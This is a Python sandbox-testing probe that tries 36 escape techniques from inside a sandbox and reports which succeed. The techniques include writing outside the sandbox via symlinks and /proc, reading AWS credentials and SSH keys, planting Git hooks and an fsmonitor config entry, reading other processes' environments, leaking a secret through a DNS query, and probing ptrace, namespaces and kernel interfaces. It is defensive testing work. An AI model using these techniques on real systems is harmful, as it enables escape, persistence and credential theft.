"""Attacks on the sandbox from inside: run by the project's Python, where commands run.

    python3 -c THIS FILE'S TEXT '{"outside": …}'

Prints one JSON object: attack → what it achieved, or an empty text where it failed. It only does
what can be undone: it touches canaries that it is told, and closes what it opens.
"""

# ruff: noqa: PTH103, PTH123, PTH211, PTH108, PTH101, PTH118, PTH208, UP032
import contextlib
import ctypes
import fcntl
import json
import os
import platform
import pty
import socket
import sys
from collections.abc import Callable
from typing import Any

X86 = platform.machine() == "x86_64"
Facts = dict[str, Any]
LIBC = ctypes.CDLL(None, use_errno=True)


def call(x86: int, arm: int, *arguments: Any) -> int:
    """A raw system call; its error number, 0 when it worked."""
    ctypes.set_errno(0)
    words = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    done = LIBC.syscall(ctypes.c_long(x86 if X86 else arm), *words)
    return ctypes.get_errno() if done < 0 else 0


def put(path: str) -> str:
    with open(path, "w") as file:
        file.write("evil")
    return "wrote " + path


def take(path: str) -> str:
    with open(path, "rb") as file:
        data = file.read(4096)
    return "read " + path if b"canary" in data else ""


def write_by_path(at: Facts) -> str:
    return put(os.path.join(at["outside"], "by-path"))


def write_by_dots(at: Facts) -> str:
    return put(os.path.relpath(os.path.join(at["outside"], "by-dots")))


def write_by_link(at: Facts) -> str:
    with contextlib.suppress(FileExistsError):
        os.symlink(at["outside"], "link-out")
    return put("link-out/by-link")


def write_by_hard_link(at: Facts) -> str:
    os.link(os.path.join(at["outside"], "canary"), "hard-link")
    return put("hard-link")


def write_by_proc(at: Facts) -> str:
    return put("/proc/self/cwd/" + os.path.relpath(os.path.join(at["outside"], "by-proc")))


def write_by_root(at: Facts) -> str:
    return put("/proc/1/root" + os.path.join(at["outside"], "by-root"))


def change_mode(at: Facts) -> str:
    os.chmod(os.path.join(at["outside"], "canary"), 0o777)
    return "changed its mode"


def read_credentials(at: Facts) -> str:
    return take(os.path.join(at["home"], ".aws", "credentials"))


def read_keys(at: Facts) -> str:
    with contextlib.suppress(FileExistsError):
        os.symlink(os.path.join(at["home"], ".ssh"), "link-keys")
    return take("link-keys/id_ed25519")


def read_log(at: Facts) -> str:
    return take(at["log"])


def write_hook(at: Facts) -> str:
    """The project's own hooks, by the path that Git uses: the host looks whether it is there."""
    put(os.path.join(".git", "hooks", "post-checkout"))
    return "" if at["confined"] else "wrote .git/hooks"


def write_git_config(at: Facts) -> str:
    with open(os.path.join(".git", "config"), "a") as file:
        file.write("[core]\n\tfsmonitor = evil\n")
    return "" if at["confined"] else "wrote .git/config"


def write_submodule(at: Facts) -> str:
    """Where a submodule's hooks and configuration are: in the project's own Git folder."""
    folder = os.path.join(".git", "modules", "sub")
    os.makedirs(os.path.join(folder, "hooks"), exist_ok=True)
    put(os.path.join(folder, "hooks", "post-checkout"))
    put(os.path.join(folder, "config"))
    return "" if at["confined"] else "wrote " + folder


def write_nested_repository(at: Facts) -> str:
    """A repository inside the project, with a Git folder of its own."""
    folder = os.path.join("nested", ".git")
    os.makedirs(os.path.join(folder, "hooks"), exist_ok=True)
    put(os.path.join(folder, "hooks", "post-checkout"))
    put(os.path.join(folder, "config"))
    return "" if at["confined"] else "wrote " + folder


def own_environment(at: Facts) -> str:
    return "found it" if at["secret"] in os.environ.values() else ""


def other_environments(at: Facts) -> str:
    for name in os.listdir("/proc"):
        if name.isdigit() and name != str(os.getpid()):
            with contextlib.suppress(OSError), open("/proc/" + name + "/environ", "rb") as file:
                if at["secret"].encode() in file.read():
                    return "read that of process " + name
    return ""


def other_processes(at: Facts) -> str:
    os.kill(at["pid"], 0)
    with open("/proc/{}/cmdline".format(at["pid"]), "rb") as file:
        return "reached process {}".format(at["pid"]) if file.read().hex() == at["cmdline"] else ""


def connect(family: int, kind: int, address: Any) -> str:
    with socket.socket(family, kind) as one:
        one.settimeout(2)
        one.connect(address)
        one.send(b"evil")
    return "sent to {!r}".format(address)


def network_tcp(at: Facts) -> str:
    return connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", at["tcp"]))


def network_udp(at: Facts) -> str:
    """Nothing may arrive: the host looks."""
    connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", at["udp"]))
    return "" if at["confined"] else "sent"


def network_dns(at: Facts) -> str:
    """A question to a name server that carries a secret in the name. Nothing may arrive: the host looks."""
    labels = [at["secret"][:30].encode(), b"evil", b"example"]
    name = b"".join(bytes([len(each)]) + each for each in labels)
    question = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + name + b"\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(question, ("127.0.0.1", at["dns"]))
    return "" if at["confined"] else "asked"


def network_routes(at: Facts) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect(("192.0.2.1", 53))
    return "there is a way out"


def socket_by_path(at: Facts) -> str:
    return connect(socket.AF_UNIX, socket.SOCK_STREAM, at["unix"])


def socket_abstract(at: Facts) -> str:
    return connect(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + at["abstract"])


def socket_vsock(at: Facts) -> str:
    with socket.socket(40, socket.SOCK_STREAM):
        return "opened one"


def child() -> tuple[int, int]:
    """A process that waits until its end of a pipe is closed."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(writer)
        os.read(reader, 1)
        os._exit(0)
    os.close(reader)
    return pid, writer


def trace(at: Facts) -> str:
    """Attach to a process of one's own; to the sandbox's first process it would be as bad as it gets."""
    pid, writer = child()
    try:
        failed = call(101, 117, 16, pid, 0, 0)
        if not failed:
            os.waitpid(pid, 0)
            call(101, 117, 17, pid, 0, 0)
        return "" if failed else "attached"
    finally:
        os.close(writer)
        os.waitpid(pid, 0)


def denied(number: int) -> str:
    return "" if number in (1, 38) else "allowed (errno {})".format(number)


def read_memory(at: Facts) -> str:
    return denied(call(310, 270, os.getpid(), 0, 0, 0, 0, 0))


def user_namespace(at: Facts) -> str:
    pid = os.fork()
    if pid == 0:
        os._exit(call(272, 97, 0x10000000) and 1)
    return "made one" if os.waitpid(pid, 0)[1] == 0 else ""


def clone_namespace(at: Facts) -> str:
    pid = os.fork()
    if pid == 0:
        ctypes.set_errno(0)
        made = LIBC.syscall(
            ctypes.c_long(56 if X86 else 220), ctypes.c_long(0x10000011), *[ctypes.c_long(0)] * 4
        )
        os._exit(0 if made >= 0 else 1)
    return "made one" if os.waitpid(pid, 0)[1] == 0 else ""


def key_ring(at: Facts) -> str:
    return denied(call(250, 219, 0, -3, 0))


def io_uring(at: Facts) -> str:
    return denied(call(425, 425, 0, 0))


def kernel_programs(at: Facts) -> str:
    return denied(call(321, 280, 99, 0, 0))


def kernel_events(at: Facts) -> str:
    return denied(call(298, 241, 0, 0, -1, -1, 0))


def mounting(at: Facts) -> str:
    return (
        denied(call(165, 40, b"x", b"/nowhere-at-all", b"tmpfs", 0, 0))
        if not at["superuser"]
        else denied(call(430, 430, b"tmpfs", 0))
    )


def terminal_input(at: Facts) -> str:
    main, other = pty.openpty()
    try:
        fcntl.ioctl(other, 0x5412, b"x")
        return "typed"
    except OSError as error:
        return denied(error.errno or 0)
    finally:
        os.close(main)
        os.close(other)


def kernel_settings(at: Facts) -> str:
    """The same value again: it is the superuser's to change, and would run a program outside."""
    with open("/proc/sys/kernel/core_pattern", "r+b", 0) as file:
        value = file.read()
        file.seek(0)
        file.write(value)
    return "wrote core_pattern"


def devices(at: Facts) -> str:
    with contextlib.suppress(OSError):
        os.mknod("/tmp/heddle-device", 0o600 | 0o020000, os.makedev(1, 8))
        os.unlink("/tmp/heddle-device")
        return "made one"
    return ""


ATTACKS: list[Callable[[Facts], str]] = [
    write_by_path,
    write_by_dots,
    write_by_link,
    write_by_hard_link,
    write_by_proc,
    write_by_root,
    change_mode,
    read_credentials,
    read_keys,
    read_log,
    write_hook,
    write_git_config,
    write_submodule,
    write_nested_repository,
    own_environment,
    other_environments,
    other_processes,
    network_tcp,
    network_udp,
    network_dns,
    network_routes,
    socket_by_path,
    socket_abstract,
    socket_vsock,
    trace,
    read_memory,
    user_namespace,
    clone_namespace,
    key_ring,
    io_uring,
    kernel_programs,
    kernel_events,
    mounting,
    terminal_input,
    kernel_settings,
    devices,
]


def main(text: str) -> None:
    at = json.loads(text)
    found: dict[str, str] = {}
    for attack in ATTACKS:
        try:
            found[attack.__name__] = attack(at) or ""
        except (OSError, ValueError):
            found[attack.__name__] = ""
    print(json.dumps(found))


if __name__ == "__main__":
    main(sys.argv[1])
